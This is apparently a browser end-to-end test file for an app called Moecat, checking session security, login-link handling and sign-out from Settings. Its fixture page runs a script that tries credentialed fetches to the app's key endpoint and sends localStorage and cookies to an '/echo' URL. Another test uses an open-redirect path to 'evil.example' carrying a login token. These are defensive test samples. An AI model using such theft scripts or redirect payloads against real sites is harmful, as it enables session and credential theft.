// A browser's session in Chromium against a real server: signed in by the printed link, it holds its
// credential in its own origin's storage. Led to a page on another 127.0.0.1 port, it hands that page
// nothing that opens Moecat (everything that page receives is replayed from outside the browser); a
// used link shows the sign-in page; Settings lists the browser and signs it out.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from './fixtures/browser';

let h: Harness;
let other: Server;
let otherOrigin: string;
/** Every request the page on the other port received: its headers, and its full URL. */
const received: { url: string; headers: IncomingHttpHeaders }[] = [];

beforeAll(async () => {
  h = await startHarness();
  other = createServer((req, res) => {
    received.push({ url: req.url ?? '', headers: req.headers });
    res.setHeader('content-type', 'text/html');
    // A page that tries what a page can: load things on Moecat's origin, and ask for them with credentials.
    const moecat = new URL(h.server.url).origin;
    res.end(`<!doctype html><title>elsewhere</title>
      <img src="${moecat}/app/keys.json"><img src="/pixel">
      <script>
        fetch(${JSON.stringify(`${moecat}/app/keys.json`)}, { credentials: 'include' }).catch(() => {});
        fetch('/echo?storage=' + encodeURIComponent(JSON.stringify(Object.assign({}, localStorage)) + document.cookie));
      </script>`);
  });
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await h?.close();
  await new Promise((done) => other?.close(done));
});

const moecat = (path: string) => new URL(path, h.server.url).toString();

describe('a signed-in browser led to another port', () => {
  it('works on Moecat, and the page on the other port receives nothing that opens any /app/ endpoint', async () => {
    // Signed in: the app reads the user's own data.
    await h.open('/settings');
    await h.page.getByTestId('session-current').waitFor();

    await h.page.goto(`${otherOrigin}/landing`);
    await h.page.waitForFunction(() => document.title === 'elsewhere');
    await expect.poll(() => received.some((r) => r.url.startsWith('/echo'))).toBe(true);

    // No cookie at all is kept for 127.0.0.1, so none was sent.
    expect(await h.context.cookies()).toEqual([]);
    expect(received.every((r) => r.headers.cookie === undefined)).toBe(true);
    // The other origin's storage is its own: empty.
    const echo = received.find((r) => r.url.startsWith('/echo'))!;
    expect(new URL(echo.url, otherOrigin).searchParams.get('storage')).toBe('{}');

    // Everything it got — every header value, every query value — replayed from outside the browser.
    const values = new Set<string>();
    for (const r of received) {
      for (const v of Object.values(r.headers)) for (const one of [v].flat()) if (one) values.add(one);
      for (const [, v] of new URL(r.url, otherOrigin).searchParams) values.add(v);
    }
    expect(values.size).toBeGreaterThan(3);
    const endpoints = ['/app/keys.json', '/app/sessions.json', '/app/history.json', '/app/playlists.json', '/app/library.json'];
    for (const value of values) {
      const tries: Record<string, string>[] = [{ 'x-moecat-ui': value }, { cookie: value }, { authorization: `Bearer ${value}` }];
      for (const headers of tries) {
        for (const path of endpoints) {
          const res = await fetch(moecat(path), { headers });
          expect(res.status, `${path} with ${JSON.stringify(headers)}`).toBe(401);
        }
        const write = await fetch(moecat('/app/keys/create.json'), {
          method: 'POST',
          headers: { ...headers, 'content-type': 'application/json' },
          body: '{"name":"Planted"}',
        });
        expect(write.status).toBe(401);
      }
    }

    // Back on Moecat, the browser is still signed in.
    await h.open('/settings');
    await h.page.getByTestId('session-current').waitFor();
  });
});

describe('signing in', () => {
  it('from a link whose path looks like another host, stays on Moecat and takes the token out of the address', async () => {
    const context = await h.browser.newContext();
    const page = await context.newPage();
    const link = new URL(h.server.loginUrl());
    await page.goto(`${link.origin}/x/..//evil.example/?token=${link.searchParams.get('token')}`);
    await page.locator('#main').waitFor();
    const here = new URL(page.url());
    expect(here.origin).toBe(link.origin);
    expect(here.searchParams.has('token')).toBe(false);
    await context.close();
  });

  it('with a used link shows the sign-in page, saying the link was used', async () => {
    const link = h.server.loginUrl();
    const first = await h.browser.newContext();
    await (await first.newPage()).goto(link);
    const second = await h.browser.newContext();
    const page = await second.newPage();
    await page.goto(link);
    await page.getByTestId('sign-in').waitFor();
    expect(await page.getByTestId('sign-in-reason').textContent()).toMatch(/used already/);
    expect(new URL(page.url()).searchParams.has('token')).toBe(false);
    await h.shot('sign-in', page);
    // Without a link at all: the same page, saying the browser is not signed in.
    await page.goto(new URL(link).origin);
    await page.getByTestId('sign-in').waitFor();
    expect(await page.getByTestId('sign-in-reason').textContent()).toMatch(/not signed in/);
    await first.close();
    await second.close();
  });
});

describe('Settings → Signed-in browsers', () => {
  it('lists this browser and another, signs the other out, then this one, which then shows the sign-in page', async () => {
    const otherContext = await h.browser.newContext();
    const signingIn = await otherContext.newPage();
    await signingIn.goto(h.server.loginUrl());
    await signingIn.locator('#main').waitFor();
    await signingIn.close();

    await h.open('/settings');
    const rows = h.page.getByTestId('session-row');
    await expect.poll(() => rows.count()).toBeGreaterThanOrEqual(2);
    const current = h.page.locator('[data-testid="session-row"]:has([data-testid="session-current"])');
    expect(await current.count()).toBe(1);

    // Sign the other browser out: its next request finds it signed out.
    const otherRow = rows.filter({ hasNot: h.page.getByTestId('session-current') }).first();
    const before = await rows.count();
    await otherRow.getByRole('button', { name: /^Sign out/ }).click();
    await otherRow.locator('.confirm').getByRole('button', { name: 'Sign out' }).click();
    await expect.poll(() => rows.count()).toBe(before - 1);
    // The other browser, opened again: the server no longer takes its session.
    const otherPage = await otherContext.newPage();
    await otherPage.goto(new URL('/settings', h.server.url).toString());
    await otherPage.getByTestId('sign-in').waitFor();
    expect(await otherPage.getByTestId('sign-in-reason').textContent()).toMatch(/signed out/);
    await otherContext.close();

    // Sign this browser out.
    await current.getByRole('button', { name: /^Sign out/ }).click();
    await current.locator('.confirm').getByRole('button', { name: 'Sign out' }).click();
    await h.page.getByTestId('sign-in').waitFor();
    expect(await h.page.getByTestId('sign-in-reason').textContent()).toMatch(/signed out/);
    await h.page.reload();
    await h.page.getByTestId('sign-in').waitFor();
  });
});
